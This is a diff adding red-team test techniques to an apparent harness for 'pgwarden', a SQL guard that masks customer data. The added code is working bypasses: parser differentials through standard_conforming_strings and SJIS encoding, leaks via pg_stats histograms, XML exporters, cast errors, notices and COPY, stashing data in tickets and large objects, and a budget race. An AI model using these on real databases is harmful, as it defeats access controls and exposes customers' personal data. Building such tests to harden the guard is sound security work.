@@ -1745,6 +1745,293 @@ def t_analyst_unmask(ctx: Ctx) -> None:
     ctx.q(c, "SELECT name, email FROM search_customers('%') LIMIT 50")
 
 
+# -- rt3: parser differentials, statistics, xml exporters --------------------------------------
+
+
+@technique("rows")
+def t_scs_off_startup(ctx: Ctx) -> None:
+    """standard_conforming_strings=off given in the startup packet's options: the server reads
+    'A\\' as an unterminated string (backslash escapes the quote) where a parser assuming the
+    default reads the string A\\ followed by a comment. What pgwarden judges is SELECT 'A\\';
+    what runs is SELECT 'A'' /* ', customer_id, "Email", "FullName" FROM customers ..."""
+    c = ctx.connect(options="'-c statement_timeout=30000 -c standard_conforming_strings=off'")
+    for a in range(1, N_ALL, 1100):
+        ctx.q(c, "SELECT 'A\\' /* ', customer_id, \"Email\", \"FullName\" FROM customers "
+                 f"WHERE customer_id BETWEEN {a} AND {a + 1099} -- */")  # fmt: skip
+
+
+@technique("rows")
+def t_scs_off_set(ctx: Ctx) -> None:
+    """As scs_off_startup, but standard_conforming_strings is switched off by SET, then by
+    set_config() inside a SELECT, then in one simple-query string before the statement."""
+    leak = ("SELECT 'A\\' /* ', customer_id, \"Email\", \"FullName\" FROM customers "
+            "WHERE customer_id BETWEEN {a} AND {b} -- */")  # fmt: skip
+    c = ctx.connect()
+    ctx.q(c, "SET standard_conforming_strings = off")
+    ctx.q(c, leak.format(a=1, b=1100))
+    c2 = ctx.connect()
+    ctx.q(c2, "SELECT set_config('standard_conforming_strings', 'off', false)")
+    ctx.q(c2, leak.format(a=1101, b=2200))
+    c3 = ctx.connect()
+    ctx.q(c3, "SET standard_conforming_strings = off; " + leak.format(a=2201, b=N_ALL))
+
+
+@technique("rows")
+def t_analyst_scs_off(ctx: Ctx) -> None:
+    """The analyst: the standard_conforming_strings parser differential; the mask is applied
+    to the statement pgwarden parsed (a constant), not to the one the server ran."""
+    ctx.out.analyst = True
+    c = ctx.connect(sdb.ANALYST, options="'-c statement_timeout=30000 -c standard_conforming_strings=off'")
+    ctx.q(c, "SELECT 'A\\' /* ', customer_id, \"Email\", \"FullName\" FROM customers "
+             "WHERE tier = 'vip' -- */")  # fmt: skip
+    c2 = ctx.connect(sdb.ANALYST)
+    ctx.q(c2, "SET standard_conforming_strings = off")
+    ctx.q(c2, "SELECT 'A\\' /* ', customer_id, \"Email\", \"FullName\" FROM customers "
+              "WHERE tier = 'vip' -- */")  # fmt: skip
+
+
+@technique("rows")
+def t_sjis_backslash(ctx: Ctx) -> None:
+    """client_encoding SJIS: the character 表 is the bytes 0x95 0x5C, the second one an ASCII
+    backslash. In an E'' string a byte-wise or Latin-1 reading sees an escaped quote and a
+    string running to the end; the server, converting SJIS first, sees E'表' and the columns."""
+    c = ctx.connect(options="'-c statement_timeout=30000 -c client_encoding=SJIS'")
+    for a in range(1, N_ALL, 1100):
+        ctx.q(c, "SELECT E'表', customer_id, \"Email\", \"FullName\" FROM customers "
+                 f"WHERE customer_id BETWEEN {a} AND {a + 1099} -- '")  # fmt: skip
+    c2 = ctx.connect()
+    ctx.q(c2, "SET client_encoding = 'SJIS'")
+    ctx.q(c2, "SELECT E'表', customer_id, \"Email\" FROM customers WHERE customer_id > 0 -- '")
+
+
+@technique("rows")
+def t_pg_stats_histograms(ctx: Ctx) -> None:
+    """pg_stats shows every column the role may SELECT: its histogram_bounds (101 values of a
+    unique column such as the e-mail) and most_common_vals, as anyarray text. No customer
+    table is named in the statement."""
+    c = ctx.connect()
+    ctx.q(c, "SELECT tablename, attname, histogram_bounds::text, most_common_vals::text, "
+             "most_common_elems::text FROM pg_stats WHERE schemaname = 'crm'")  # fmt: skip
+    ctx.q(c, "SELECT attname, histogram_bounds::text FROM pg_catalog.pg_stats "
+             "WHERE tablename IN ('customers', 'legacy_customers', 'customer_phones_mobile', "
+             "'customer_phones_other', 'customer_directory', 'customer_phones')")  # fmt: skip
+
+
+@technique("rows")
+def t_analyst_pg_stats(ctx: Ctx) -> None:
+    """The analyst: pg_stats histogram bounds of the masked columns, unmasked."""
+    ctx.out.analyst = True
+    c = ctx.connect(sdb.ANALYST)
+    ctx.q(c, "SELECT tablename, attname, histogram_bounds::text, most_common_vals::text "
+             "FROM pg_stats WHERE schemaname = 'crm'")  # fmt: skip
+
+
+@technique("rows")
+def t_table_to_xml(ctx: Ctx) -> None:
+    """The SQL/XML exporters that take a relation, a schema or the database rather than a
+    query text: table_to_xml('crm.customers'), schema_to_xml('crm'), database_to_xml()."""
+    c = ctx.connect()
+    ctx.q(c, "SELECT table_to_xml('crm.customers'::regclass, true, false, '')::text")
+    ctx.q(c, "SELECT table_to_xml_and_xmlschema('crm.customer_phones_mobile', true, false, '')::text")
+    ctx.q(c, "SELECT schema_to_xml('crm', true, false, '')::text")
+    ctx.q(c, "SELECT database_to_xml(true, false, '')::text")
+
+
+@technique("rows")
+def t_analyst_table_to_xml(ctx: Ctx) -> None:
+    """The analyst: table_to_xml over crm.customers, unmasked?"""
+    ctx.out.analyst = True
+    c = ctx.connect(sdb.ANALYST)
+    ctx.q(c, "SELECT table_to_xml('crm.customers'::regclass, true, false, '')::text")
+    ctx.q(c, "SELECT schema_to_xml('crm', true, false, '')::text")
+
+
+@technique("rows")
+def t_cursor_to_xml(ctx: Ctx) -> None:
+    """A cursor declared over the customers (DECLARE returns no rows); cursor_to_xml() then
+    fetches 5000 rows of it inside one SELECT that names no table."""
+    c = ctx.connect(autocommit=False)
+    ctx.q(c, f'DECLARE cx CURSOR FOR SELECT customer_id, "Email", "FullName" FROM customers WHERE {ALL}')
+    ctx.q(c, "SELECT cursor_to_xml('cx', 5000, false, false, '')::text")
+    c.rollback()
+    ctx.q(c, "DECLARE cy CURSOR WITH HOLD FOR SELECT customer_id, phone FROM customer_phones "
+             "WHERE customer_id > 0")  # fmt: skip
+    c.commit()
+    ctx.q(c, "SELECT cursor_to_xml('cy', 5000, false, false, '')::text")
+    c.rollback()
+
+
+@technique("rows")
+def t_analyst_cursor_to_xml(ctx: Ctx) -> None:
+    """The analyst: cursor_to_xml over a cursor declared on the masked columns."""
+    ctx.out.analyst = True
+    c = ctx.connect(sdb.ANALYST, autocommit=False)
+    ctx.q(c, "DECLARE cx CURSOR FOR SELECT customer_id, \"Email\", \"FullName\" FROM customers "
+             "WHERE tier = 'vip'")  # fmt: skip
+    ctx.q(c, "SELECT cursor_to_xml('cx', 5000, false, false, '')::text")
+    c.rollback()
+
+
+@technique("error")
+def t_analyst_error_cast(ctx: Ctx) -> None:
+    """The analyst: a failed cast puts the value in the error message."""
+    ctx.out.analyst = True
+    c = ctx.connect(sdb.ANALYST)
+    ctx.q(c, "SELECT customer_id, \"Email\"::int FROM customers WHERE tier = 'vip'")
+    ctx.q(c, "SELECT (SELECT string_agg(\"Email\" || ' ' || \"FullName\", ',') FROM customers "
+             "WHERE tier = 'vip')::int")  # fmt: skip
+    for k in range(1, 40):
+        ctx.q(c, f'SELECT ("Email" || \' \' || "FullName")::int FROM customers WHERE customer_id = {k}')
+
+
+@technique("notice")
+def t_analyst_notice_notify(ctx: Ctx) -> None:
+    """The analyst: a DO block raising notices, and pg_notify() to a channel it listens on."""
+    ctx.out.analyst = True
+    c = ctx.connect(sdb.ANALYST)
+    ctx.q(c, "DO $$ DECLARE r record; BEGIN FOR r IN SELECT \"Email\", \"FullName\" FROM crm.customers "
+             "WHERE tier = 'vip' LOOP RAISE NOTICE '%', r; END LOOP; END $$")  # fmt: skip
+    ctx.q(c, "LISTEN rt3")
+    ctx.q(c, "SELECT count(pg_notify('rt3', \"Email\" || ' ' || \"FullName\")) FROM customers "
+             "WHERE tier = 'vip'")  # fmt: skip
+    ctx.q(c, "SELECT 1")
+
+
+@technique("rows")
+def t_analyst_copy_out(ctx: Ctx) -> None:
+    """The analyst may COPY out (copy_out is not denied to it): text, csv and binary formats."""
+    ctx.out.analyst = True
+    c = ctx.connect(sdb.ANALYST)
+    for q in ("COPY (SELECT customer_id, \"Email\", \"FullName\" FROM customers WHERE tier = 'vip') TO STDOUT",
+              "COPY (SELECT customer_id, \"Email\", profile, card, alt_phones FROM customers WHERE tier = 'vip') "
+              "TO STDOUT WITH (FORMAT binary)",
+              "COPY customer_phones_mobile TO STDOUT WITH (FORMAT csv)"):  # fmt: skip
+        ctx.stmt += 1
+        ctx.out.statements += 1
+        buf = bytearray()
+        try:
+            with c.cursor() as cur, cur.copy(ctx.sql(q)) as cp:
+                for chunk in cp:
+                    buf += chunk
+        except psycopg.Error as exc:
+            ctx._error(exc)
+            if c.closed:
+                break
+        ctx.seen("copy", buf.decode(errors="replace"))
+
+
+@technique("rows")
+def t_analyst_binary(ctx: Ctx) -> None:
+    """The analyst in binary result format: jsonb, the composite card, the text[] array."""
+    ctx.out.analyst = True
+    c = ctx.connect(sdb.ANALYST)
+    ctx.q(c, "SELECT customer_id, \"Email\", profile, card, alt_phones FROM customers "
+             "WHERE tier = %s", ("vip",), binary=True)  # fmt: skip
+
+
+@technique("rows")
+def t_analyst_lateral_srf(ctx: Ctx) -> None:
+    """The analyst: masked columns taken apart by set-returning functions in FROM (LATERAL):
+    jsonb_each_text, jsonb_to_record, unnest, regexp_split_to_table, XMLTABLE."""
+    ctx.out.analyst = True
+    c = ctx.connect(sdb.ANALYST)
+    v = "c.tier = 'vip'"
+    for q in (f"SELECT c.customer_id, j.key, j.value FROM customers c, jsonb_each_text(c.profile->'contact') j WHERE {v}",
+              f"SELECT c.customer_id, r.name FROM customers c, jsonb_to_record(c.profile) AS r(name text) WHERE {v}",
+              f"SELECT c.customer_id, p FROM customers c, unnest(c.alt_phones) p WHERE {v}",
+              f"SELECT c.customer_id, s FROM customers c, regexp_split_to_table(c.\"Email\", '@') s WHERE {v}",
+              f"SELECT c.customer_id, s FROM customers c, unnest(ARRAY[c.\"FullName\"]) s WHERE {v}",
+              f"SELECT c.customer_id, x.e FROM customers c, XMLTABLE('/r' PASSING xmlelement(name r, c.\"Email\") "
+              f"COLUMNS e text PATH '.') x WHERE {v}",
+              f"SELECT c.customer_id, k.* FROM customers c, LATERAL (SELECT (c.card).*) k WHERE {v}"):  # fmt: skip
+        ctx.q(c, q)
+
+
+@technique("rows")
+def t_update_from_returning(ctx: Ctx) -> None:
+    """UPDATE of an unlabelled column of the tickets (agents may touch updated_at), joined to
+    the customers, RETURNING the customers' columns; in a transaction rolled back."""
+    c = ctx.connect()
+    ctx.q(c, "BEGIN")
+    ctx.q(c, 'UPDATE "Tickets" t SET updated_at = t.updated_at FROM customers c '
+             'WHERE c.customer_id = t.customer_id RETURNING c.customer_id, c."Email", c."FullName"')  # fmt: skip
+    ctx.q(c, "ROLLBACK")
+    ctx.q(c, "BEGIN")
+    ctx.q(c, 'UPDATE "Tickets" t SET updated_at = t.updated_at WHERE ticket_id > 0 RETURNING ticket_id, '
+             '(SELECT "Email" FROM customers c WHERE c.customer_id = t.customer_id)')  # fmt: skip
+    ctx.q(c, "ROLLBACK")
+
+
+@technique("rows")
+def t_status_stash(ctx: Ctx) -> None:
+    """The writable ticket status (an unlabelled column) set to each customer's e-mail and name
+    in a transaction, read back by a SELECT of the tickets, then rolled back."""
+    c = ctx.connect()
+    ctx.q(c, "BEGIN")
+    ctx.q(c, 'UPDATE "Tickets" t SET status = c."Email" || \' \' || c."FullName" FROM customers c '
+             "WHERE c.customer_id = t.customer_id")  # fmt: skip
+    ctx.q(c, 'SELECT ticket_id, status FROM "Tickets" WHERE ticket_id > 0')
+    ctx.q(c, "ROLLBACK")
+    ctx.q(c, "BEGIN")
+    ctx.q(c, 'UPDATE "Tickets" SET status = (SELECT "Email" FROM customers c '
+             'WHERE c.customer_id = "Tickets".customer_id) WHERE ticket_id > 0')  # fmt: skip
+    ctx.q(c, 'SELECT ticket_id, status FROM "Tickets" WHERE ticket_id > 0')
+    ctx.q(c, "ROLLBACK")
+
+
+@technique("rows")
+def t_large_object_stash(ctx: Ctx) -> None:
+    """Each customer written to a large object of one's own (lo_from_bytea); the objects read
+    back with lo_get over pg_largeobject_metadata, which names no customer table."""
+    c = ctx.connect()
+    ctx.q(c, "BEGIN")
+    ctx.q(c, "SELECT count(lo_from_bytea(0, convert_to(\"Email\" || ' ' || \"FullName\", 'UTF8'))) "
+             f"FROM customers WHERE {ALL}")  # fmt: skip
+    ctx.q(c, "SELECT oid, convert_from(lo_get(oid), 'UTF8') FROM pg_largeobject_metadata")
+    ctx.q(c, "ROLLBACK")
+    ctx.q(c, "SELECT lo_from_bytea(0, convert_to(\"Email\", 'UTF8')) FROM customers "
+             "WHERE customer_id BETWEEN 1 AND 15")  # fmt: skip
+    ctx.q(c, "SELECT oid, convert_from(lo_get(oid), 'UTF8') FROM pg_largeobject_metadata")
+    ctx.q(c, "SELECT lo_unlink(oid) FROM pg_largeobject_metadata")
+
+
+@technique("rows")
+def t_budget_race(ctx: Ctx) -> None:
+    """The agent's own customers, 15 a statement, on 12 connections at once: does the hourly
+    budget hold when the statements are judged concurrently?"""
+    mine = sorted(ctx.env.ds.need_to_know(ATTACKER))
+    conns = [ctx.connect() for _ in range(12)]
+    chunks = [mine[i : i + 15] for i in range(0, len(mine), 15)]
+    barrier = threading.Barrier(len(conns))
+
+    lock = threading.Lock()
+
+    def run(k: int) -> None:
+        barrier.wait()
+        for j in range(k, len(chunks), len(conns)):
+            ids = ",".join(map(str, chunks[j]))
+            with lock:
+                ctx.stmt += 1
+                ctx.out.statements += 1
+                n = ctx.stmt
+            try:
+                rows = conns[k].execute(ctx.sql('SELECT customer_id, "FullName", "Email" FROM customers '
+                                                f"WHERE customer_id IN ({ids})")).fetchall()  # fmt: skip
+            except psycopg.Error as exc:
+                with lock:
+                    ctx._error(exc)
+                continue
+            with lock:
+                ctx.seen("rows", sdb.dump_io(rows), stmt=n)
+
+    ts = [threading.Thread(target=run, args=(k,)) for k in range(len(conns))]
+    for t in ts:
+        t.start()
+    for t in ts:
+        t.join()
+    ctx.out.notes.append(f"own customers: {len(mine)}")
+
+
 # --- the honest agent ------------------------------------------------------------------------
 
 
